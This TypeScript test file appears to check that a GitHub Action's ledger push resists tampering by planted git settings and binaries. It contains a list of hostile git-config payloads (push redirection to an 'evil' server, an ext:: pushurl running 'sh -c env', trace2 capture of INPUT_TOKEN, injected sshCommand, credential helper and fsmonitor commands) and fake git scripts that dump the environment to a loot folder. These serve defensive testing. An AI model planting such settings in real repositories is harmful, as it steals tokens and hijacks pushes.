import { appendFile, chmod, mkdir, readdir, symlink, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { delimiter, join } from 'node:path';
import { type Host, openHost, proxiedFetch } from '../../src/actions/host.js';
import { DAY, idAt, runFile } from '../ledger/fixtures.js';
import { bareEnvironment } from '../support/exec.js';
import { GitServer } from '../support/git-server.js';
import { GitHubWorld } from '../support/github-world.js';
import { runnerVariables } from '../support/runner/environment.js';
import type { Job } from '../support/runner.js';

const INPUTS = {
  'ledger-branch': 'lineage',
  'ledger-repository': '',
  policy: '',
  'job-status': 'success',
  matrix: 'null',
};

let world: GitHubWorld;
/** Has the same repository and takes the same tokens. */
let evil: GitServer;
let made = 0;

beforeAll(async () => {
  world = await GitHubWorld.start();
  evil = await GitServer.start({ tokens: world.tokens });
  await evil.createRepo(world.repository);
});

afterEach(() => {
  evil.requests.length = 0;
  expect(world.github.violations).toEqual([]);
});

afterAll(async () => {
  await Promise.all([world.close(), evil.close()]);
});

interface Place {
  host: Host;
  env: Record<string, string>;
  home: string;
  /** Where what the attacker gets to know is written. */
  loot: string;
}

/** A step of a job. @param before what an earlier step has done @returns what it has added to the environment */
async function place(
  before: (job: Job, loot: string) => Promise<Record<string, string>> = async () => ({}),
): Promise<Place> {
  const job = await world.job(await world.push(), { checkout: 'none', artifacts: false });
  const home = join(job.options.root, 'home');
  const loot = join(job.options.root, 'loot');
  await mkdir(loot);
  const eventPath = join(job.temp, '_github_workflow', 'event.json');
  const all = {
    ...bareEnvironment(home),
    ...runnerVariables(job.options, { temp: job.temp, home, eventPath }),
    ...(await before(job, loot)),
  };
  const host = await openHost(all, { ...INPUTS, token: job.options.token });
  return { host, env: all, home, loot };
}

interface Attack {
  evil: string;
  url: string;
  loot: string;
}

/** Settings that lead a push elsewhere or tell the token. */
const SETTINGS: readonly (readonly [name: string, text: (attack: Attack) => string])[] = [
  ['pushurl', (at) => `[remote "lineage-ledger"]\n\tpushurl = ${at.evil}\n`],
  ['pushInsteadOf', (at) => `[url "${at.evil}"]\n\tpushInsteadOf = lineage-ledger:\n`],
  ['insteadOf', (at) => `[url "${at.evil}"]\n\tinsteadOf = lineage-ledger:\n\tinsteadOf = ${at.url}\n`],
  ['http.proxy', (at) => `[http]\n\tproxy = ${new URL(at.evil).origin}\n`],
  ['http.<url>.proxy', (at) => `[http "${at.url}"]\n\tproxy = ${new URL(at.evil).origin}\n`],
  ['remote.proxy', (at) => `[remote "lineage-ledger"]\n\tproxy = ${new URL(at.evil).origin}\n`],
  [
    'protocol.ext',
    ({ loot }) =>
      `[protocol "ext"]\n\tallow = always\n[remote "lineage-ledger"]\n\tpushurl = "ext::sh -c env%>${loot}/x"\n`,
  ],
  [
    'trace2',
    ({ loot }) => `[trace2]\n\teventTarget = ${loot}/trace\n\tenvVars = GIT_CONFIG_PARAMETERS,INPUT_TOKEN\n`,
  ],
  [
    'ssh and helpers',
    ({ loot }) =>
      `[core]\n\tsshCommand = touch '${loot}/ssh'; :\n[credential]\n\thelper = "!touch '${loot}/helper'; :"\n` +
      '[remote "lineage-ledger"]\n\tpushurl = ssh://git@127.0.0.1/x\n',
  ],
  [
    'http.sslVerify and cookies',
    ({ loot }) => `[http]\n\tsslVerify = false\n\tcookieFile = ${loot}/jar\n\tsaveCookies = true\n`,
  ],
  ['hooks', ({ loot }) => `[core]\n\thooksPath = ${loot}\n\tfsmonitor = touch ${loot}/monitor\n`],
];

/** Puts a text in the configuration of every bare repository below a folder. @returns how many there are */
async function plantInRepositories(folder: string, text: string): Promise<number> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  const heads = entries.filter((entry) => entry.isFile() && entry.name === 'HEAD');
  for (const head of heads) await appendFile(join(head.parentPath, 'config'), text);
  return heads.length;
}

async function expectPushed({ host, loot }: Place, path: string): Promise<void> {
  expect(evil.requests).toEqual([]);
  expect(await readdir(loot)).toEqual([]);
  expect(await world.repo.listFiles('lineage')).toContain(path);
  expect(host.outside.program).toMatch(/git/);
}

async function runOfNow() {
  made += 1;
  const id = idAt(DAY + made, made);
  return { run_id: id, files: [await runFile(id)], message: { subject: 'run', trailers: [] } };
}

describe('what is planted after the begin leads no push elsewhere', () => {
  test.each(SETTINGS)('%s', async (_, text) => {
    const at = await place();
    await at.host.ledger.checkWritable();
    await at.host.ledger.view();
    const attack = { evil: evil.url(world.repository), url: world.git.url(world.repository), loot: at.loot };
    const planted = text(attack);
    expect(await plantInRepositories(at.host.temp, planted)).toBeGreaterThan(0);
    await writeFile(join(at.home, 'included'), planted);
    await writeFile(join(at.home, '.gitconfig'), `[include]\n\tpath = included\n${planted}`);
    await mkdir(join(at.home, '.config', 'git'), { recursive: true });
    await writeFile(join(at.home, '.config', 'git', 'config'), planted);
    const run = await runOfNow();
    await at.host.openLedger().append([run]);
    await expectPushed(at, run.files[0]?.path ?? '');
  });
});

/** A program that looks like git and tells all that it knows. */
async function plantGit(folder: string, loot: string): Promise<void> {
  await mkdir(folder, { recursive: true });
  for (const name of ['git', 'git-remote-http', 'git-push', 'git-send-pack']) {
    await writeFile(join(folder, name), `#!/bin/sh\nenv > '${loot}/${name}'\nexit 1\n`);
    await chmod(join(folder, name), 0o755);
  }
}

const posix = process.platform === 'win32' ? describe.skip : describe;

posix('git is the program that was there at the begin', () => {
  test('a folder of PATH that got one later changes nothing', async () => {
    let folder = '';
    const at = await place(async (job) => {
      folder = join(job.options.root, 'bin');
      return { PATH: [folder, process.env.PATH].join(delimiter) };
    });
    await plantGit(folder, at.loot);
    const run = await runOfNow();
    await at.host.openLedger().append([run]);
    await expectPushed(at, run.files[0]?.path ?? '');
  });

  test.each(['workspace', 'temp', 'a link into the workspace'])('and never one in the %s', async (where) => {
    const at = await place(async (job, loot) => {
      const inside = join(where === 'temp' ? job.temp : job.workspace, 'bin');
      await plantGit(inside, loot);
      const link = join(job.options.root, 'link');
      await mkdir(link);
      for (const name of await readdir(inside)) await symlink(join(inside, name), join(link, name));
      return { PATH: [where.startsWith('a') ? link : inside, process.env.PATH].join(delimiter) };
    });
    const run = await runOfNow();
    await at.host.ledger.append([run]);
    await expectPushed(at, run.files[0]?.path ?? '');
  });
});

describe('a step after the training takes the way to the server from its surroundings, and no other', () => {
  const OTHERS = SETTINGS.filter(([name]) => !/^http\..*proxy$/.test(name));

  test.each(OTHERS)('%s', async (_, text) => {
    const at = await place(async (job, loot) => {
      const [evilUrl, url] = [evil, world.git].map((server) => server.url(world.repository));
      const planted = text({ evil: evilUrl ?? '', url: url ?? '', loot });
      await writeFile(join(job.options.root, 'home', '.gitconfig'), planted);
      return {};
    });
    const run = await runOfNow();
    await at.host.ledger.append([run]);
    await expectPushed(at, run.files[0]?.path ?? '');
  });

  test('variables', async () => {
    const at = await place(async (job, loot) => {
      const programs = join(job.options.root, 'programs');
      await plantGit(programs, loot);
      const setting = { key: `url.${evil.url(world.repository)}.pushInsteadOf`, value: 'lineage-ledger:' };
      return {
        GIT_EXEC_PATH: programs,
        GIT_TRACE: `${loot}/trace`,
        GIT_TRACE2_EVENT: `${loot}/trace2`,
        GIT_TRACE2_ENV_VARS: 'GIT_CONFIG_PARAMETERS',
        GIT_TRACE_CURL: `${loot}/curl`,
        GIT_TRACE_REDACT: '0',
        GIT_SSL_NO_VERIFY: '1',
        GIT_SSH_COMMAND: `touch ${loot}/ssh`,
        GIT_ASKPASS: join(programs, 'git'),
        GIT_CONFIG_COUNT: '1',
        GIT_CONFIG_KEY_0: setting.key,
        GIT_CONFIG_VALUE_0: setting.value,
        GIT_CONFIG_PARAMETERS: `'${setting.key}'='${setting.value}'`,
      };
    });
    const run = await runOfNow();
    await at.host.ledger.append([run]);
    await expectPushed(at, run.files[0]?.path ?? '');
  });
});

test('requests go through the proxy that the environment names, and straight where it names none', async () => {
  const seen: string[] = [];
  const server = createServer((_, response) => response.setHeader('connection', 'close').end('straight'));
  server.on('connect', (request, socket) => {
    seen.push(String(request.url));
    socket.end('HTTP/1.1 502 No\r\n\r\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const names = [
    'http_proxy',
    'HTTP_PROXY',
    'https_proxy',
    'HTTPS_PROXY',
    'no_proxy',
    'NO_PROXY',
    'GITHUB_API_URL',
  ];
  const before = names.map((name) => [name, process.env[name]] as const);
  try {
    for (const name of names) delete process.env[name];
    expect(await (await proxiedFetch(url)).text()).toBe('straight');
    // The toolkit looks at it once, when it is loaded.
    process.env['GITHUB_API_URL'] = 'https://api.invalid';
    process.env['https_proxy'] = url;
    await expect(proxiedFetch('https://api.invalid/')).rejects.toThrow();
    expect(seen).toEqual(['api.invalid:443']);
  } finally {
    for (const [name, value] of before) {
      if (value === undefined) delete process.env[name];
      else process.env[name] = value;
    }
    server.close();
  }
});
